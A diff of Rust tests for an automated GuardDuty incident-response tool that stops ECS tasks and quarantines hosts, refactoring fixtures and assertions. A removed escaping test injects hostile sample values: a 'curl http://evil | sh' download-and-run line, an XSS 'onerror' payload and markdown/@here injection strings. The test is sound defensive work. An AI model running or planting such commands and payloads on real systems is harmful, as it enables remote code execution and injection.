@@ -1,3 +1,6 @@
+//! decide's tests assert on the plan and its reasons; `notices/tests.rs` pins the
+//! wording, over the same fixtures (shared from here).
+
 use super::*;
 use shared::aws::ecs::Task;
 use shared::config::Env;
@@ -5,13 +8,13 @@ use shared::events::Envelope;
 
 use crate::parse::{intent, Intent};
 
-fn config(extra: &[(&'static str, &'static str)]) -> Config {
+pub(crate) fn config(extra: &[(&'static str, &'static str)]) -> Config {
     let mut pairs = vec![("NOTIFY_TOPIC_ARN", "arn:aws:sns:us-east-1:123456789012:t")];
     pairs.extend_from_slice(extra);
     Config::from_env(&Env::from_pairs(pairs)).unwrap()
 }
 
-fn threat_from(name: &str, edit: impl FnOnce(&mut serde_json::Value)) -> Threat {
+pub(crate) fn threat_from(name: &str, edit: impl FnOnce(&mut serde_json::Value)) -> Threat {
     let path = format!("{}/../../tests/fixtures/{name}", env!("CARGO_MANIFEST_DIR"));
     let mut e = Envelope::parse_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
     edit(&mut e.detail);
@@ -30,19 +33,20 @@ fn threat_from(name: &str, edit: impl FnOnce(&mut serde_json::Value)) -> Threat 
 }
 
 /// The EC2 reverse shell finding (High, 8.0) in cluster prod, service web.
-fn high() -> Threat {
+pub(crate) fn high() -> Threat {
     threat_from("guardduty-reverse-shell-ec2.json", |_| {})
 }
 
-fn with_severity(severity: f64) -> Threat {
+pub(crate) fn with_severity(severity: f64) -> Threat {
     threat_from("guardduty-reverse-shell-ec2.json", |d| {
         d["severity"] = severity.into()
     })
 }
 
-const TASK: &str = "arn:aws:ecs:us-east-1:123456789012:task/prod/0f9e8d7c6b5a49382716051423324150";
+pub(crate) const TASK: &str =
+    "arn:aws:ecs:us-east-1:123456789012:task/prod/0f9e8d7c6b5a49382716051423324150";
 
-fn evidence(arn: &str, last: &str, desired: &str) -> TaskEvidence {
+pub(crate) fn evidence(arn: &str, last: &str, desired: &str) -> TaskEvidence {
     TaskEvidence {
         task: Task {
             arn: arn.into(),
@@ -66,14 +70,14 @@ fn evidence(arn: &str, last: &str, desired: &str) -> TaskEvidence {
     }
 }
 
-fn stopped_by_us(arn: &str, minutes_ago: i64, now: DateTime<Utc>) -> TaskEvidence {
+pub(crate) fn stopped_by_us(arn: &str, minutes_ago: i64, now: DateTime<Utc>) -> TaskEvidence {
     let mut e = evidence(arn, "STOPPED", "STOPPED");
     e.stopped_reason = Some(format!("{STOP_REASON_PREFIX} GuardDuty finding x y"));
     e.stopped_at = Some(now - Duration::minutes(minutes_ago));
     e
 }
 
-fn host(status: &str, group: Option<(&str, &str)>) -> Host {
+pub(crate) fn host(status: &str, group: Option<(&str, &str)>) -> Host {
     Host {
         instance_id: "i-0abc123def4567890".into(),
         container_instance: ContainerInstance {
@@ -98,10 +102,10 @@ fn host(status: &str, group: Option<(&str, &str)>) -> Host {
     }
 }
 
-const FINDING: &str = "c6c7e4a1f2b3d4e5a6b7c8d9e0f1a2b3";
+pub(crate) const FINDING: &str = "c6c7e4a1f2b3d4e5a6b7c8d9e0f1a2b3";
 
 /// The host as an earlier delivery left it: DRAINING, detached and tagged.
-fn quarantined() -> Host {
+pub(crate) fn quarantined() -> Host {
     Host {
         quarantined_for: Some(FINDING.into()),
         ..host("DRAINING", None)
@@ -109,13 +113,50 @@ fn quarantined() -> Host {
 }
 
 /// A running task of service web (3 running) on an ACTIVE host in opted-in group prod-asg.
-fn running() -> Observed {
+pub(crate) fn running() -> Observed {
     Observed {
         task: Some(evidence(TASK, "RUNNING", "RUNNING")),
         service_running: Some(3),
         service_stopped: vec![],
         host: Some(host("ACTIVE", Some(("prod", "InService")))),
     }
+}
+
+/// Only a host, as a host finding sees it.
+pub(crate) fn on_host(h: Host) -> Observed {
+    Observed {
+        host: Some(h),
+        ..Observed::default()
+    }
+}
+
+/// Our task as an earlier delivery left it (stopped two minutes ago), on host `h`.
+pub(crate) fn stopped_on(h: Host) -> Observed {
+    Observed {
+        task: Some(stopped_by_us(TASK, 2, Utc::now())),
+        host: Some(h),
+        ..running()
+    }
+}
+
+/// Service web, with as many of our stops in the window as MAX_STOPS_PER_SERVICE allows.
+pub(crate) fn breaker_tripped(now: DateTime<Utc>) -> Observed {
+    Observed {
+        service_stopped: vec![
+            stopped_by_us("t1", 5, now),
+            stopped_by_us("t2", 10, now),
+            stopped_by_us("t3", 29, now),
+        ],
+        ..running()
+    }
+}
+
+/// The host as an earlier delivery left it, isolated in QUARANTINE_SG and snapshotted.
+pub(crate) fn contained_host() -> Host {
+    let mut h = quarantined();
+    h.network_interfaces[0].groups = vec![QUARANTINE_SG.into()];
+    h.snapshots = vec!["snap-1".into(), "snap-2".into()];
+    h
 }
 
 fn actions(plan: &Plan) -> Vec<&'static str> {
@@ -130,9 +171,7 @@ fn notes(plan: &Plan) -> Vec<(&'static str, Outcome)> {
     plan.steps
         .iter()
         .filter_map(|s| match s {
-            Step::Report(Report {
-                action, outcome, ..
-            }) => Some((*action, *outcome)),
+            Step::Note(n) => Some((n.action(), n.outcome())),
             _ => None,
         })
         .collect()
@@ -155,11 +194,7 @@ fn a_high_finding_snapshots_the_host_stops_the_task_then_drains_tags_protects_an
         ]
     );
     assert_eq!(plan.action, "contain");
-    assert_eq!(plan.notice.severity, Severity::High);
-    assert!(plan
-        .notice
-        .title
-        .starts_with("High Execution:Runtime/ReverseShell in prod/web"));
+    assert_eq!(plan.why, Why::Threat);
     let Step::TagInstance { tags, .. } = &plan.steps[4] else {
         panic!()
     };
@@ -173,18 +208,19 @@ fn a_high_finding_snapshots_the_host_stops_the_task_then_drains_tags_protects_an
 }
 
 #[test]
-fn the_stop_reason_starts_with_our_prefix_and_names_the_finding() {
+fn the_stop_names_the_finding_and_the_cluster_by_arn() {
     let plan = respond(&high(), &running(), &config(&[]), Utc::now());
     let Step::StopTask {
-        reason, cluster, ..
+        cluster,
+        finding_id,
+        finding_type,
+        ..
     } = &plan.steps[2]
     else {
         panic!()
     };
-    assert!(reason.starts_with(STOP_REASON_PREFIX));
-    assert!(reason.contains("c6c7e4a1f2b3d4e5a6b7c8d9e0f1a2b3"));
-    assert!(reason.contains("Execution:Runtime/ReverseShell"));
-    assert!(reason.len() <= 255);
+    assert_eq!(finding_id, "c6c7e4a1f2b3d4e5a6b7c8d9e0f1a2b3");
+    assert_eq!(finding_type, "Execution:Runtime/ReverseShell");
     assert_eq!(cluster, "arn:aws:ecs:us-east-1:123456789012:cluster/prod");
 }
 
@@ -206,6 +242,17 @@ fn a_fargate_task_is_stopped_and_no_host_is_touched() {
             ("quarantine-host", Outcome::Skipped)
         ]
     );
+}
+
+#[test]
+fn a_plan_logs_its_notes_with_their_reasons() {
+    let plan = respond(&high(), &running(), &config(&[]), Utc::now());
+    let logged = serde_json::to_value(&plan.steps).unwrap();
+    assert_eq!(
+        logged[0],
+        serde_json::json!({"step": "note", "note": "isolation_off"})
+    );
+    assert_eq!(logged[2]["step"], "stop_task");
 }
 
 #[test]
@@ -272,10 +319,7 @@ fn snapshots_already_taken_for_the_finding_are_not_taken_again() {
 #[test]
 fn a_host_finding_quarantines_the_host_and_stops_nothing() {
     let t = threat_from("guardduty-host-new-binary-instance.json", |_| {});
-    let seen = Observed {
-        host: Some(host("ACTIVE", Some(("prod", "InService")))),
-        ..Observed::default()
-    };
+    let seen = on_host(host("ACTIVE", Some(("prod", "InService"))));
     let plan = respond_host(&t, &seen, &config(&[]));
     assert_eq!(
         actions(&plan),
@@ -290,7 +334,7 @@ fn a_host_finding_quarantines_the_host_and_stops_nothing() {
     assert_eq!(plan.action, "contain");
     let plan = respond_host(&t, &Observed::default(), &config(&[]));
     assert!(!plan.changes_something());
-    assert!(plan.notice.title.contains("not in an opted-in cluster"));
+    assert_eq!(plan.why, Why::HostNotInCluster);
 }
 
 #[test]
@@ -310,8 +354,7 @@ fn findings_below_min_severity_are_only_notified() {
     let plan = screen(&t, true, &config(&[])).unwrap();
     assert!(plan.steps.is_empty());
     assert_eq!(plan.outcome, Outcome::Skipped);
-    assert_eq!(plan.notice.severity, Severity::Warning);
-    assert!(plan.notice.title.contains("below MIN_SEVERITY"));
+    assert_eq!(plan.why, Why::BelowMinSeverity { min_severity: 7.0 });
     assert!(screen(&t, true, &config(&[("MIN_SEVERITY", "4")])).is_none());
 }
 
@@ -321,7 +364,7 @@ fn sample_findings_are_not_acted_on_unless_drills_are_enabled() {
         d["severity"] = 8.into()
     });
     let plan = screen(&t, true, &config(&[])).unwrap();
-    assert!(plan.notice.title.contains("sample finding"));
+    assert_eq!(plan.why, Why::Sample);
     assert!(plan.steps.is_empty());
     assert!(screen(&t, true, &config(&[("ACT_ON_SAMPLE_FINDINGS", "true")])).is_none());
 }
@@ -330,8 +373,7 @@ fn sample_findings_are_not_acted_on_unless_drills_are_enabled() {
 fn an_unmanaged_cluster_is_only_notified() {
     let plan = screen(&high(), false, &config(&[])).unwrap();
     assert!(plan.steps.is_empty());
-    assert_eq!(plan.notice.severity, Severity::Info);
-    assert!(plan.notice.title.contains("not opted in"));
+    assert_eq!(plan.why, Why::NotOptedIn);
 }
 
 #[test]
@@ -340,19 +382,16 @@ fn type_lists_match_prefixes_and_deny_wins() {
         ("FINDING_TYPES_ALLOW", "Execution:Runtime/"),
         ("FINDING_TYPES_DENY", "Execution:Runtime/ReverseShell"),
     ]);
-    assert!(screen(&high(), true, &c)
-        .unwrap()
-        .notice
-        .title
-        .contains("type denied"));
+    assert_eq!(
+        screen(&high(), true, &c).unwrap().why,
+        Why::TypeDenied {
+            prefix: "Execution:Runtime/ReverseShell".into()
+        }
+    );
     let c = config(&[("FINDING_TYPES_ALLOW", "Execution:Runtime/")]);
     assert!(screen(&high(), true, &c).is_none());
     let c = config(&[("FINDING_TYPES_ALLOW", "CryptoCurrency:")]);
-    assert!(screen(&high(), true, &c)
-        .unwrap()
-        .notice
-        .title
-        .contains("not allowed"));
+    assert_eq!(screen(&high(), true, &c).unwrap().why, Why::TypeNotAllowed);
 }
 
 #[test]
@@ -360,28 +399,30 @@ fn a_finding_without_a_task_is_only_notified() {
     let t = threat_from("guardduty-reverse-shell-ec2.json", |d| {
         d["resource"]["ecsClusterDetails"]["taskDetails"] = serde_json::json!({});
     });
-    assert!(screen(&t, true, &config(&[])).unwrap().steps.is_empty());
+    let plan = screen(&t, true, &config(&[])).unwrap();
+    assert!(plan.steps.is_empty());
+    assert_eq!(plan.why, Why::NoTaskNamed);
 }
 
 #[test]
 fn a_duplicate_finding_for_a_stopped_task_on_a_quarantined_host_is_already_contained() {
-    let mut seen = running();
-    seen.task = Some(stopped_by_us(TASK, 2, Utc::now()));
-    seen.host = Some(quarantined());
+    let seen = stopped_on(quarantined());
     let plan = respond(&high(), &seen, &config(&[]), Utc::now());
     assert!(!plan.changes_something());
     assert_eq!(plan.outcome, Outcome::AlreadyDone);
-    assert_eq!(plan.notice.severity, Severity::Info);
-    assert!(plan.notice.title.contains("already contained"));
+    assert_eq!(
+        plan.why,
+        Why::TaskContained {
+            stopped_reason: Some(format!("{STOP_REASON_PREFIX} GuardDuty finding x y"))
+        }
+    );
 }
 
 #[test]
 fn a_duplicate_finding_names_the_snapshots_taken_earlier_and_takes_none() {
-    let mut seen = running();
-    seen.task = Some(stopped_by_us(TASK, 2, Utc::now()));
     let mut h = quarantined();
     h.snapshots = vec!["snap-1".into()];
-    seen.host = Some(h);
+    let seen = stopped_on(h);
     let plan = respond(&high(), &seen, &config(&[]), Utc::now());
     assert!(!plan.changes_something());
     assert_eq!(
@@ -392,7 +433,12 @@ fn a_duplicate_finding_names_the_snapshots_taken_earlier_and_takes_none() {
         ]
     );
     let refs = plan.steps[0].refs();
-    assert!(plan.steps[0].why().is_some());
+    assert_eq!(
+        plan.steps[0],
+        Step::Note(Note::AlreadySnapshotted {
+            snapshots: vec!["snap-1".into()]
+        })
+    );
     assert_eq!(refs, &["snap-1"]);
 }
 
@@ -410,6 +456,7 @@ fn a_retry_after_a_partial_quarantine_finishes_the_host_without_stopping_again()
             ("drain-host", Outcome::AlreadyDone)
         ]
     );
+    assert!(matches!(plan.why, Why::TaskStopped { .. }));
 }
 
 #[test]
@@ -425,7 +472,7 @@ fn a_task_being_stopped_counts_as_stopped() {
 fn a_task_ecs_does_not_know_is_reported_and_not_stopped() {
     let plan = respond(&high(), &Observed::default(), &config(&[]), Utc::now());
     assert!(plan.steps.is_empty());
-    assert!(plan.notice.title.contains("task not found"));
+    assert_eq!(plan.why, Why::TaskNotFound);
 }
 
 #[test]
@@ -437,36 +484,41 @@ fn excluded_services_and_families_are_held_for_a_person() {
         Utc::now(),
     );
     assert!(plan.steps.is_empty());
-    assert_eq!(plan.notice.severity, Severity::High);
-    assert!(plan.notice.title.contains("service excluded"));
+    assert_eq!(
+        plan.why,
+        Why::ServiceExcluded {
+            service: "web".into()
+        }
+    );
     let plan = respond(
         &high(),
         &running(),
         &config(&[("ACTION_EXCLUDE_TASK_FAMILIES", "web")]),
         Utc::now(),
     );
-    assert!(plan.notice.title.contains("family excluded"));
+    assert_eq!(
+        plan.why,
+        Why::FamilyExcluded {
+            family: "web".into()
+        }
+    );
 }
 
 #[test]
-fn the_breaker_trips_after_max_stops_in_the_window_and_raises_a_critical() {
+fn the_breaker_trips_after_max_stops_in_the_window() {
     let now = Utc::now();
-    let mut seen = running();
-    seen.service_stopped = vec![
-        stopped_by_us("t1", 5, now),
-        stopped_by_us("t2", 10, now),
-        stopped_by_us("t3", 29, now),
-    ];
+    let seen = breaker_tripped(now);
     let plan = respond(&high(), &seen, &config(&[]), now);
     assert!(plan.steps.is_empty());
-    assert_eq!(plan.notice.severity, Severity::Critical);
-    assert!(plan.notice.title.contains("crash-loop breaker"));
-    assert!(plan
-        .notice
-        .next_steps
-        .iter()
-        .any(|s| s.contains("scale service web to zero")));
-    assert_eq!(plan.notice.details["recent_stops"], 3);
+    assert_eq!(
+        plan.why,
+        Why::BreakerTripped {
+            service: "web".into(),
+            stops: 3,
+            window_minutes: 30,
+            max_stops: 3
+        }
+    );
 }
 
 #[test]
@@ -493,20 +545,17 @@ fn only_our_own_stops_within_the_window_count_towards_the_breaker() {
 #[test]
 fn the_health_floor_holds_high_findings_for_a_person_but_critical_ones_stop_anyway() {
     let c = config(&[("MIN_HEALTHY_TASKS", "3")]);
+    let floor = Floor {
+        service: "web".into(),
+        running: 3,
+        min_healthy: 3,
+    };
     let plan = respond(&high(), &running(), &c, Utc::now());
     assert!(plan.steps.is_empty());
-    assert!(plan.notice.title.contains("health floor"));
-    assert!(plan
-        .notice
-        .description
-        .contains("below MIN_HEALTHY_TASKS (3)"));
+    assert_eq!(plan.why, Why::HealthFloor(floor.clone()));
     let plan = respond(&with_severity(9.2), &running(), &c, Utc::now());
     assert_eq!(actions(&plan)[..2], ["snapshot-host", "stop-task"]);
-    assert_eq!(plan.notice.severity, Severity::Critical);
-    assert!(plan
-        .notice
-        .description
-        .contains("Critical, so the task is stopped anyway"));
+    assert_eq!(plan.why, Why::FloorOverridden(floor));
     let plan = respond(
         &high(),
         &running(),
@@ -539,7 +588,7 @@ fn a_group_not_opted_in_for_the_cluster_is_not_detached() {
 }
 
 #[test]
-fn an_instance_already_terminating_is_not_detached_and_the_notice_says_why() {
+fn an_instance_already_terminating_is_not_detached_and_the_note_says_why() {
     let mut seen = running();
     seen.host = Some(host("ACTIVE", Some(("prod", "Terminating:Wait"))));
     let plan = respond(&high(), &seen, &config(&[]), Utc::now());
@@ -547,61 +596,35 @@ fn an_instance_already_terminating_is_not_detached_and_the_notice_says_why() {
         actions(&plan),
         ["snapshot-host", "stop-task", "drain-host", "tag-host"]
     );
-    let Some(why) = plan.steps.last().and_then(Step::why) else {
-        panic!()
-    };
-    assert!(why.contains("Terminating:Wait"));
+    assert_eq!(
+        plan.steps.last(),
+        Some(&Step::Note(Note::NotDetachable {
+            group: "prod-asg".into(),
+            state: Some(LifecycleState::TerminatingWait)
+        }))
+    );
 }
 
-#[test]
-fn attacker_controlled_runtime_fields_come_out_escaped() {
-    let t = threat_from("guardduty-reverse-shell-ec2.json", |d| {
-        d["service"]["runtimeDetails"]["process"]["name"] =
-            "x`](http://evil)<img src=x onerror=alert(1)>\n@here *pwn*".into();
-        d["service"]["runtimeDetails"]["context"]["commandLineExample"] =
-            "curl http://evil | sh # [click](http://evil)".into();
-    });
-    let plan = respond(&t, &running(), &config(&[]), Utc::now());
-    let record = serde_json::to_string(&plan.notice.details).unwrap();
-    for raw in ["<img", "](", "`", "@here", "*pwn", "| sh", "[click"] {
-        assert!(
-            all_escaped(&plan.notice.description, raw),
-            "{raw} in description"
-        );
-        assert!(all_escaped(&record, raw), "{raw} in the notice record");
-    }
-    assert!(plan.notice.description.contains(r"\<img"));
-    assert!(!plan.notice.description.contains("\n@"));
-}
-
-/// Every occurrence of `raw` in `text` starts with a backslash-escaped character.
-fn all_escaped(text: &str, raw: &str) -> bool {
-    text.match_indices(raw)
-        .all(|(at, _)| text[..at].ends_with('\\'))
-}
-
-fn host_threat() -> Threat {
+pub(crate) fn host_threat() -> Threat {
     threat_from("guardduty-host-new-binary-instance.json", |_| {})
 }
 
-const QUARANTINE_SG: &str = "sg-0123456789abcdef0";
+pub(crate) const QUARANTINE_SG: &str = "sg-0123456789abcdef0";
 
 #[test]
 fn a_redelivered_host_finding_finds_the_host_contained_and_changes_nothing() {
     let c = config(&[("QUARANTINE_SECURITY_GROUP", QUARANTINE_SG)]);
-    let mut h = quarantined();
-    h.network_interfaces[0].groups = vec![QUARANTINE_SG.into()];
-    h.snapshots = vec!["snap-1".into(), "snap-2".into()];
-    let seen = Observed {
-        host: Some(h),
-        ..Observed::default()
-    };
+    let seen = on_host(contained_host());
     let plan = respond_host(&host_threat(), &seen, &c);
     assert!(!plan.changes_something(), "{:?}", plan.steps);
     assert_eq!(plan.outcome, Outcome::AlreadyDone);
-    assert_eq!(plan.notice.severity, Severity::Info);
-    assert!(plan.notice.title.contains("already contained"));
-    assert!(plan.notice.description.contains(FINDING));
+    assert_eq!(
+        plan.why,
+        Why::HostContained {
+            instance_id: "i-0abc123def4567890".into(),
+            quarantined_for: Some(FINDING.into())
+        }
+    );
     assert_eq!(
         notes(&plan),
         [
@@ -612,7 +635,7 @@ fn a_redelivered_host_finding_finds_the_host_contained_and_changes_nothing() {
     );
     // The evidence kept earlier is named, for the notification's record.
     let refs = plan.steps[1].refs();
-    assert!(plan.steps[1].why().is_some());
+    assert!(matches!(plan.steps[1], Step::Note(_)));
     assert_eq!(refs, &["snap-1", "snap-2"]);
 }
 
@@ -621,10 +644,7 @@ fn an_interface_in_other_groups_too_is_isolated_again() {
     let c = config(&[("QUARANTINE_SECURITY_GROUP", QUARANTINE_SG)]);
     let mut h = quarantined();
     h.network_interfaces[0].groups = vec![QUARANTINE_SG.into(), "sg-0aaaaaaaaaaaaaaa0".into()];
-    let seen = Observed {
-        host: Some(h),
-        ..Observed::default()
-    };
+    let seen = on_host(h);
     let plan = respond_host(&host_threat(), &seen, &c);
     assert_eq!(actions(&plan), ["isolate-network", "snapshot-host"]);
 }
@@ -633,10 +653,7 @@ fn an_interface_in_other_groups_too_is_isolated_again() {
 fn a_host_quarantined_for_an_earlier_finding_keeps_that_finding_on_its_tag() {
     let mut h = host("DRAINING", Some(("prod", "InService")));
     h.quarantined_for = Some("earlier-finding".into());
-    let seen = Observed {
-        host: Some(h),
-        ..Observed::default()
-    };
+    let seen = on_host(h);
     let plan = respond_host(&host_threat(), &seen, &config(&[]));
     assert_eq!(
         actions(&plan),
@@ -644,19 +661,14 @@ fn a_host_quarantined_for_an_earlier_finding_keeps_that_finding_on_its_tag() {
         "the snapshots are this finding's; the tag stays the first finding's"
     );
     assert!(notes(&plan).contains(&("tag-host", Outcome::AlreadyDone)));
-    assert!(plan
-        .notice
-        .next_steps
-        .iter()
-        .any(|s| s.contains("ecs-autopilot:quarantine=earlier-finding")));
+    assert!(plan.steps.contains(&Step::Note(Note::AlreadyTagged {
+        marked: "earlier-finding".into()
+    })));
 }
 
 #[test]
 fn a_detached_draining_host_without_the_tag_is_tagged() {
-    let seen = Observed {
-        host: Some(host("DRAINING", None)),
-        ..Observed::default()
-    };
+    let seen = on_host(host("DRAINING", None));
     let plan = respond_host(&host_threat(), &seen, &config(&[]));
     assert_eq!(actions(&plan), ["snapshot-host", "tag-host"]);
 }
@@ -664,19 +676,18 @@ fn a_detached_draining_host_without_the_tag_is_tagged() {
 #[test]
 fn a_host_finding_with_every_step_switched_off_is_only_reported() {
     let c = config(&[("QUARANTINE_HOST", "false"), ("SNAPSHOT_VOLUMES", "false")]);
-    let seen = Observed {
-        host: Some(host("ACTIVE", Some(("prod", "InService")))),
-        ..Observed::default()
-    };
+    let seen = on_host(host("ACTIVE", Some(("prod", "InService"))));
     let plan = respond_host(&host_threat(), &seen, &c);
     assert!(!plan.changes_something());
     assert_eq!(plan.outcome, Outcome::Skipped);
-    assert!(plan.notice.title.contains("nothing done on the host"));
+    assert_eq!(plan.why, Why::NothingApplies);
 }
 
 /// The documented fixture `name`, mutated in one to three places, as the decision sees it
 /// when it still parses (shared::events::fuzz strategies).
-fn mutated_fixture(name: &str) -> impl proptest::strategy::Strategy<Value = serde_json::Value> {
+pub(crate) fn mutated_fixture(
+    name: &str,
+) -> impl proptest::strategy::Strategy<Value = serde_json::Value> {
     let (_, v) = shared::events::fuzz::fixtures()
         .into_iter()
         .find(|(n, _)| n == name)
@@ -687,10 +698,7 @@ fn mutated_fixture(name: &str) -> impl proptest::strategy::Strategy<Value = serd
 #[test]
 fn any_host_finding_shape_stops_no_task_and_touches_only_the_host_ecs_placed() {
     let c = config(&[("QUARANTINE_SECURITY_GROUP", QUARANTINE_SG)]);
-    let seen = Observed {
-        host: Some(host("ACTIVE", Some(("prod", "InService")))),
-        ..Observed::default()
-    };
+    let seen = on_host(host("ACTIVE", Some(("prod", "InService"))));
     let ours = "i-0abc123def4567890";
     let planned = std::cell::Cell::new(0);
     shared::events::fuzz::check(
@@ -729,62 +737,10 @@ fn any_host_finding_shape_stops_no_task_and_touches_only_the_host_ecs_placed() {
                         container_instance_arn,
                         ..
                     } => assert_eq!(container_instance_arn, "arn:ci/1"),
-                    Step::Report(_) => {}
+                    Step::Note(_) => {}
                 }
             }
         },
     );
     assert!(planned.get() > 0, "no mutated finding reached the decision");
-}
-
-#[test]
-fn any_attack_sequence_shape_gets_one_notice_listing_every_resource_it_names() {
-    use crate::sequence::{notice, Contained};
-    let outcomes = [
-        Outcome::Done,
-        Outcome::AlreadyDone,
-        Outcome::Skipped,
-        Outcome::Warning,
-        Outcome::Failed,
-    ];
-    let noticed = std::cell::Cell::new(0);
-    shared::events::fuzz::check(
-        "sequence::notice over mutated attack sequences",
-        mutated_fixture("guardduty-attack-sequence-ecs.json"),
-        |v| {
-            let Ok(e) = Envelope::parse(v) else { return };
-            let Ok(Intent::Sequence(s)) = intent(&e) else {
-                return;
-            };
-            let named: Vec<(&'static str, String)> = s
-                .tasks
-                .iter()
-                .map(|t| ("task", task_arn(&t.finding).unwrap_or_default().to_string()))
-                .chain(s.hosts.iter().map(|h| ("host", h.clone())))
-                .collect();
-            let contained: Vec<Contained> = named
-                .iter()
-                .enumerate()
-                .map(|(i, (kind, resource))| Contained {
-                    kind,
-                    resource: resource.clone(),
-                    outcome: outcomes[(i + resource.len()) % outcomes.len()],
-                })
-                .collect();
-            let (outcome, n) = notice(&s, &contained);
-            noticed.set(noticed.get() + 1);
-            assert_eq!(
-                n.details["containment"].as_array().map(Vec::len),
-                Some(named.len())
-            );
-            assert_eq!(
-                n.severity == Severity::Info,
-                outcome == Outcome::AlreadyDone,
-                "Critical unless a redelivery found everything contained"
-            );
-            assert!(n.title.chars().count() <= 400, "{}", n.title.len());
-            assert!(!n.title.contains('\n'));
-        },
-    );
-    assert!(noticed.get() > 0, "no mutated sequence reached the notice");
 }
